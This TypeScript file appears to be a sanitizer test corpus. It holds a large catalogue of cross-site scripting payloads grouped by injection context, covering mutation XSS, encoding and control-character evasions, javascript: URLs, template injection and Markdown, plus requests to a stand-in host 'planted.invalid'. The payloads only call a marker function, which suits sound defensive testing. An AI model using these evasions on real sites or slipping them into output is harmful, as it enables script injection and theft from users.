/** Markup that would do something if it were parsed as more than text. */
export interface Payload {
  /** When executed it calls `planted(number)`, or requests `/planted/number`; its elements have `data-planted="number"`. */
  number: number;
  /** The context that it breaks out of, or its parser. */
  context: string;
  text: string;
}

interface Context {
  /** A page without escaping around the payload. */
  careless(text: string): string;
  /** With § for their numbers. */
  texts: readonly string[];
}

/** An address that leads nowhere: requests to it are intercepted. */
const elsewhere = "planted.invalid";

const plain = (text: string) => text;
const link = (href: string) => `<a href="${href}">x</a>`;
/** Reads the text as markup once more, as careless scripts do. */
const readAgain = (times: number) => (text: string) =>
  `<div id="again"></div><script>
    let text = ${JSON.stringify(text).replaceAll("<", "\\u003c")};
    const area = document.createElement("textarea");
    for (let time = 0; time < ${times}; time += 1) { area.innerHTML = text; text = area.value; }
    document.getElementById("again").innerHTML = text;
  </script>`;
const markdownLinks = (text: string) => text.replace(/!?\[([^\]]*)\]\(?:? ?([^)\s]*)\)?|<([a-z]+:[^>]*)>/g, '<a href="$2$3">$1</a>');

const script = "<script data-planted=§>planted(§)</script>";
const image = "<img data-planted=§ src=x: onerror=planted(§)>";
const vector = "<svg data-planted=§ onload=planted(§)>";
const endings = (ends: readonly string[]) => ends.flatMap((end) => [end + script, end + image, end + vector]);
const handlers = (quote: string) => [
  `${quote} data-planted=§ autofocus onfocus=planted(§) x=${quote}`,
  `${quote} data-planted=§ onmouseover=planted(§) x=${quote}`,
  `${quote}\tdata-planted=§\tonpointerenter=planted(§)\tx=${quote}`,
  `${quote}/data-planted=§/onclick=planted(§)/x=${quote}`,
  `${quote} data-planted=§ style=animation:a onanimationstart=planted(§) x=${quote}`,
  `${quote}>${image}`,
  `${quote}>${script}`,
  `${quote}><iframe data-planted=§ srcdoc='<script>parent.planted(§)</script>'>`,
];
const hexadecimal = (text: string) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join("");
const named = (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
const again = (text: string) => text.replaceAll("&", "&amp;");

const contexts: Readonly<Record<string, Context>> = {
  text: {
    careless: plain,
    texts: [
      ...[script, image, vector, "<ScRiPt data-planted=§>planted(§)</sCrIpT>", "<script/x data-planted=§>planted(§)</script>"],
      ...[`<script data-planted=§ src=//${elsewhere}/planted/§></script>`, "<b data-planted=§>bold</b>"],
      ...["<script data-planted=§>alert(§)</script>", "<<img data-planted=§ src=x: onerror=confirm(§)>"],
      ...["<template data-planted=§ shadowrootmode=open><b>x</b></template>"],
    ],
  },
  "attribute in double quotes": { careless: (text) => `<input value="${text}">`, texts: handlers('"') },
  "attribute in single quotes": { careless: (text) => `<input value='${text}'>`, texts: handlers("'") },
  "attribute without quotes": {
    careless: (text) => `<input value=${text}>`,
    texts: [
      ...["x data-planted=§ autofocus onfocus=planted(§)", "x\fdata-planted=§\fautofocus\fonfocus=planted(§)"],
      ...["x\ndata-planted=§\nonclick=planted(§)", `x>${image}`, "`x` data-planted=§ onclick=`${planted(§)}`", `>${script}`],
    ],
  },
  "javascript: URL": {
    careless: link,
    texts: [
      ...["javascript:planted(§)", "JaVaScRiPt:planted(§)", " javascript:planted(§)", "java\tscript:planted(§)", "java\nscript:planted(§)"],
      ...["java\r\nscript:planted(§)", "javascript\t:planted(§)", "\u0001javascript:planted(§)", "\u001fjavascript:planted(§)"],
      ...["javascript://x/%0aplanted(§)", "javascript:%70lanted(§)", "javascript&colon;planted(§)", "&#106;avascript:planted(§)"],
      ...["javascript:void(planted(§))//http://x/", "javas&Tab;cript:planted(§)", "javascript:'<svg data-planted=§>'"],
    ],
  },
  "data: URL": {
    careless: link,
    texts: [
      ...["data:text/html,<script>parent.planted(§)</script>", "DATA:text/html;x,<script data-planted=§>planted(§)</script>"],
      ...["data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='planted(§)'/>", "da\tta:text/html,<b data-planted=§>"],
      ...["data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=#§", "data:text/javascript,planted(§)"],
    ],
  },
  "vbscript: URL": {
    careless: link,
    texts: ["vbscript:planted(§)", "VBScript:planted(§)", "vb\tscript:planted(§)", "vbscript:MsgBox(§)"],
  },
  comment: { careless: (text) => `<!-- ${text} -->`, texts: endings(["-->", "--!>", "<!-->"]).slice(0, 6) },
  style: {
    careless: (text) => `<style>p { color: ${text} }</style><p>x</p>`,
    texts: [
      ...endings(["</style>", "</STYLE\t>"]),
      `red } @import "//${elsewhere}/planted/§"; p {`,
      `red; background: url(//${elsewhere}/planted/§)`,
    ],
  },
  title: { careless: (text) => `<title>${text}</title>`, texts: [...endings(["</title>"]), `</tItLe/x>${image}`, `</title >${script}`] },
  textarea: { careless: (text) => `<textarea>${text}</textarea>`, texts: [...endings(["</textarea>"]), `</TEXTAREA\n>${image}`] },
  script: {
    careless: (text) => `<script>const name = "${text}";</script>`,
    texts: [...endings(["</script>"]), '";planted(§);"', '"-planted(§)-"', `</SCRIPT foo="x">${image}`, '\\";planted(§)//'],
  },
  noscript: {
    careless: (text) => `<noscript>${text}</noscript>`,
    texts: [...endings(["</noscript>"]), `<p title="</noscript>${image}">`],
  },
  SVG: {
    careless: plain,
    texts: [
      ...["<svg><script data-planted=§>planted(§)</script>", "<svg><script data-planted=§ href=data:,planted(§) />"],
      ...[
        "<svg><a data-planted=§ xlink:href=javascript:planted(§)><text y=9>x",
        "<svg><style><img data-planted=§ src=x: onerror=planted(§)>",
      ],
      ...["<svg><animate data-planted=§ onbegin=planted(§) attributeName=x dur=1s>", "<svg><set data-planted=§ onbegin=planted(§)>"],
      ...["<svg><foreignObject><img data-planted=§ src=x: onerror=planted(§)>", "<svg><use data-planted=§ href=data:image/svg+xml,x>"],
      ...[`<svg><image data-planted=§ href=//${elsewhere}/planted/§>`, "<svg><title><script data-planted=§>planted(§)</script>"],
    ],
  },
  MathML: {
    careless: plain,
    texts: [
      ...["<math data-planted=§ href=javascript:planted(§)>x", "<math><mtext><img data-planted=§ src=x: onerror=planted(§)>"],
      ...["<math><annotation-xml encoding=text/html><img data-planted=§ src=x: onerror=planted(§)>"],
      "<math><mi xlink:href=javascript:planted(§) data-planted=§>x",
    ],
  },
  template: {
    careless: plain,
    texts: [
      ...["{{constructor.constructor('planted(§)')()}}", "{{$on.constructor('planted(§)')()}}", "${planted(§)}", "#{planted(§)}"],
      ...["<%= planted(§) %>", "{{{planted(§)}}}", "{%raw%}<b data-planted=§>{%endraw%}"],
      ...["<div ng-app data-planted=§>{{planted(§)}}</div>", "<p v-html=planted(§) data-planted=§>"],
    ],
  },
  mutation: {
    careless: readAgain(0),
    texts: [
      ...["<noscript><p title='</noscript><img data-planted=§ src=x: onerror=planted(§)>'>"],
      ...["<svg></p><style><a id='</style><img data-planted=§ src=x: onerror=planted(§)>'>"],
      ...["<math><mtext><table><mglyph><style><img data-planted=§ src=x: onerror=planted(§)>"],
      ...["<form><math><mtext></form><form><mglyph><style></math><img data-planted=§ src=x:>"],
      ...["<listing>&lt;img data-planted=§ src=x: onerror=planted(§)&gt;</listing><b data-planted=§>"],
      ...["<table><a data-planted=§ href=javascript:planted(§)>x</table>"],
      ...["<xmp><p title='</xmp><img data-planted=§ src=x: onerror=planted(§)>'>"],
    ],
  },
  "encoded once": {
    careless: readAgain(1),
    texts: [
      ...[named(script), named(image), named(vector), hexadecimal("<b") + " data-planted=§>", "&#60;b data-planted=§&#62;"],
      ...["&#0000060b data-planted=§&#0000062", "&ltb data-planted=§&gt", "&LT;b data-planted=§&GT;"],
    ],
  },
  "encoded twice": {
    careless: readAgain(2),
    texts: [
      ...[script, image, vector].map((text) => again(named(text))),
      "&amp;#60;b data-planted=§&amp;#62;",
      "&amp;#x3c;b data-planted=§>",
    ],
  },
  "encoded otherwise": {
    careless: (text) => decodeURIComponent(text.replace(/\\u00(..)|\\x(..)/g, "%$1$2")),
    texts: [
      "%3Cscript%20data-planted=§%3Eplanted(§)%3C/script%3E",
      "%3cb%20data-planted=§%3e",
      "\\u003cb data-planted=§\\u003e",
      "\\x3cb data-planted=§\\x3e",
    ],
  },
  "control characters": {
    careless: plain,
    texts: [
      ...[
        "<img\u0000 data-planted=§ src=x: onerror=planted(§)>",
        "<\u0000script data-planted=§>planted(§)</script>",
        "<img\vdata-planted=§>",
      ],
      ...["<img\fdata-planted=§\fsrc=x:\fonerror=planted(§)>", "<b\rdata-planted=§>x\r\nSubject: planted", "\u001b[31m<b data-planted=§>"],
      ...["<b data-planted=§>\u0085\u009d", "\ud800<b data-planted=§>"],
    ],
  },
  "Unicode separators": {
    careless: plain,
    texts: [
      ...["\u2028<img data-planted=§ src=x: onerror=planted(§)>", "\u2029</p><b data-planted=§>", "\u202e<b data-planted=§>\u202c"],
      ...[
        "\ufeff<b data-planted=§>",
        "＜b data-planted=§＞",
        "<b\u00a0data-planted=§><i data-planted=§>",
        "\u2066<b data-planted=§>\u2069",
      ],
    ],
  },
  srcset: {
    careless: (text) => `<img srcset="${text}">`,
    texts: [
      `//${elsewhere}/planted/§ 1x`,
      `x 1x, //${elsewhere}/planted/§ 2x`,
      'x 1x" data-planted=§ onerror="planted(§)',
      `/planted/§ 1x, /planted/§ 2x`,
    ],
  },
  "event handler": {
    careless: plain,
    texts: [
      ...["<details data-planted=§ open ontoggle=planted(§)>x", "<video data-planted=§><source onerror=planted(§) src=x:>"],
      ...[
        "<audio data-planted=§ src=x: onerror=planted(§)>",
        "<body data-planted=§ onload=planted(§)>",
        "<input data-planted=§ autofocus onfocus=planted(§)>",
      ],
      ...[
        "<marquee data-planted=§ onstart=planted(§)>x",
        "<b data-planted=§ popover onbeforetoggle=planted(§)>x",
        "<style data-planted=§ onload=planted(§)></style>",
      ],
      ...[
        "<button data-planted=§ formaction=javascript:planted(§)>x",
        "<form data-planted=§ action=javascript:planted(§)><input type=submit>",
      ],
    ],
  },
  embedding: {
    careless: plain,
    texts: [
      ...[
        `<base data-planted=§ href=//${elsewhere}/planted/§>`,
        `<meta data-planted=§ http-equiv=refresh content='0;//${elsewhere}/planted/§'>`,
      ],
      ...[
        "<meta data-planted=§ http-equiv=refresh content='0;javascript:planted(§)'>",
        "<iframe data-planted=§ src=javascript:parent.planted(§)>",
      ],
      ...[`<iframe data-planted=§ src=//${elsewhere}/planted/§>`, "<iframe data-planted=§ srcdoc='<b data-planted=§>'>"],
      ...[`<object data-planted=§ data=//${elsewhere}/planted/§>`, `<embed data-planted=§ src=//${elsewhere}/planted/§>`],
      ...[`<link data-planted=§ rel=stylesheet href=//${elsewhere}/planted/§>`, `<link data-planted=§ rel=prefetch href=/planted/§>`],
      ...[`<style data-planted=§>@import '//${elsewhere}/planted/§';</style>`, `<img data-planted=§ src=/planted/§ ping=/planted/§>`],
    ],
  },
  "JSON in a script": {
    careless: (text) => `<script type="application/json">${JSON.stringify({ text })}</script>`,
    texts: [...endings(["</script>"]), `<!--<script></script>${image}`, `"}</script>${image}`],
  },
  Markdown: {
    careless: markdownLinks,
    texts: [
      ...["[x](javascript:planted(§)", "[x](JAVASCRIPT:planted%28§%29)", "[x](java\tscript:planted%28§%29)", "<javascript:planted(§)>"],
      ...[
        "[x](data:text/html,<b>§)",
        "![x](javascript:planted(§)",
        '[x](" data-planted=§ onclick="planted%28§%29)',
        "[x](&#106;avascript:planted%28§%29)",
      ],
      ...[`[x][y]\n\n[y]: javascript:planted(§)`, `**${image}**`, "```html\n<b data-planted=§>", "| <b data-planted=§> |\n|---|"],
      ...["> # <b data-planted=§>", "`<b data-planted=§>`", `![<b data-planted=§>](//${elsewhere}/planted/§)`],
    ],
  },
};

export const payloads: readonly Payload[] = Object.entries(contexts)
  .flatMap(([context, { texts }]) => texts.map((text) => ({ context, text })))
  .map(({ context, text }, index) => ({ number: index + 1, context, text: text.replaceAll("§", String(index + 1)) }));

/** A page without escaping, for which the payload is made. */
export function carelessPage({ context, text }: Payload): string {
  return `<!doctype html><html><body>${contexts[context]?.careless(text) ?? ""}</body></html>`;
}
